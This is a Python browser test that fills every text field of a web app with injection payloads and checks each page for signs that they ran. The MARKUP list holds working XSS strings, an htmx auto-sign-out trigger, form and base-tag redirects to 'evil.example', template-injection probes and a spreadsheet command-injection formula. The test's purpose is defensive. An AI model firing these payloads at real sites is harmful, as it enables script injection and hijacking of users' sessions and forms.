"""What people typed is shown as they typed it, on every page: markup in every field there is, in a real browser."""

from collections.abc import Iterator
from typing import Any

import pytest
import sqlalchemy as sa
from playwright.sync_api import Page

from engage import create_app
from engage.config import TestConfig, in_folder, make_secret_key, read_secret_key
from engage.extensions import db
from tests import databases
from tests.browser import servers
from tests.browser.conftest import NewPage
from tests.browser.servers import Server, sign_in
from tests.client import EngageClient
from tests.factories import PASSWORD
from tests.isolation.forms_read import pages_of
from tests.isolation.world import World

# Each leaves the place it stands in in another way; htmx's own attributes no content policy would stop.
MARKUP = (
    "<script>window.pwn=1</script>",
    "\"'><img src=x onerror=window.pwn=1>",
    "</textarea></title></select><svg/onload=window.pwn=1>",
    "<button data-hx-post=/sign-out data-hx-trigger=load>x",
    "<a href=javascript:window.pwn=1 id=pwn>{{7*7}}${7*7}",
    "<form action=//evil.example><input name=csrf_token>",
    "<style>*{display:none}</style><base href=//evil.example>",
    "=cmd|' /C calc'!A0\r\n\t<iframe srcdoc='<script>parent.pwn=1</script>'>",
)
PLANTED = """() => [
  ...(window.pwn === undefined ? [] : ['a script of it ran']),
  ...(document.querySelector('#pwn, img[onerror], svg[onload], iframe, base, style, form[action^="//"]')
    ? ['markup of it became an element'] : []),
  ...(document.querySelector('[data-hx-trigger=load][data-hx-post="/sign-out"]') ? ['htmx would send it'] : []),
  ...[...document.querySelectorAll('[href], [src], [action], [formaction]')]
    .filter(node => ['href', 'src', 'action', 'formaction'].some(
      name => /^\\s*(javascript|vbscript|data:text)/i.test(node.getAttribute(name) || '')))
    .map(node => 'an address that runs: ' + node.outerHTML.slice(0, 120)),
  ...(document.body.innerText.includes('$49') ? ['it was computed'] : []),
]"""


def markup(column: sa.Column[Any]) -> str:
    """Another one for each column, so that each stands in several places."""
    chosen = MARKUP[sum(map(ord, f"{column.table.name}.{column.name}")) % len(MARKUP)]
    if column.name in {"website", "link", "leave_url"}:
        chosen = "javascript:window.pwn=1//https://a.example/"
    if column.name == "email":
        chosen = '"><img/src=x/onerror=window.pwn=1>"@example.org'
    length = getattr(column.type, "length", None) or 400
    return chosen[:length]


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, list[str]]]:
    """A served installation with markup in every text of the coalition, and the addresses of its pages."""
    folder = tmp_path_factory.mktemp("planted") / "data"
    folder.mkdir(mode=0o700)
    make_secret_key(folder)
    config = TestConfig(
        SECRET_KEY=read_secret_key(folder), DATA=folder, SQLALCHEMY_DATABASE_URI=in_folder(folder)
    )
    app = create_app(config)
    app.test_client_class = EngageClient
    databases.migrate(app)
    with app.app_context():
        world = World(app, markup)
        # What the database itself refuses is refused for good; next to nothing is.
        assert len(world.refused) < 5, world.refused
        names = {"coordinator": "coordinator@example.org", "viewer": "viewer@example.org"}
        users, places = db.metadata.tables["accounts_user"], db.metadata.tables["coalitions_membership"]
        for who, email in names.items():
            user = db.session.scalar(sa.select(places.c.user_id).where(places.c.id == world.places[who]))
            name = MARKUP[0]
            db.session.execute(sa.update(users).where(users.c.id == user).values(email=email, name=name))
        db.session.commit()
        paths = [*pages_of(app), *world.doors]
        databases.close(app)
    port = servers.free_port()
    with servers.running(["serve", "--port", str(port)], folder, port) as server:
        yield Server(server.url, [f"{who}  {email}  {PASSWORD}" for who, email in names.items()]), paths


@pytest.mark.parametrize("role", ["coordinator", "viewer"])
def test_markup_in_any_field_stays_text_on_every_page(
    planted: tuple[Server, list[str]], new_page: NewPage, role: str
) -> None:
    server, paths = planted
    page = new_page(server, errors_expected=True)
    sign_in(page, server.account(role))
    found: list[str] = []
    page.on("dialog", lambda dialog: (found.append(f"{page.url}: a dialog"), dialog.dismiss()))
    page.on("console", lambda message: note(message.text, page, found))
    opened = 0
    for path in paths:
        if opens_no_page(page, path):
            continue
        opened += 1
        found += [f"{path}: {problem}" for problem in page.evaluate(PLANTED)]
    assert not found, "\n".join(found)
    assert opened > {"coordinator": 180, "viewer": 30}[role]


def note(text: str, page: Page, found: list[str]) -> None:
    """The content policy's word: something of it was tried."""
    if "Content Security Policy" in text or "Refused" in text:
        found.append(f"{page.url}: {text}")


def opens_no_page(page: Page, path: str) -> bool:
    """A file, a refusal, or nothing there."""
    if path.endswith((".csv", ".xlsx", ".json", ".ics", ".pdf", ".zip", "/file")):
        return True
    try:
        answer = page.goto(path)
    except Exception as error:
        if "Download is starting" in str(error) or "ERR_ABORTED" in str(error):
            return True
        raise
    return answer is None or answer.status >= 400
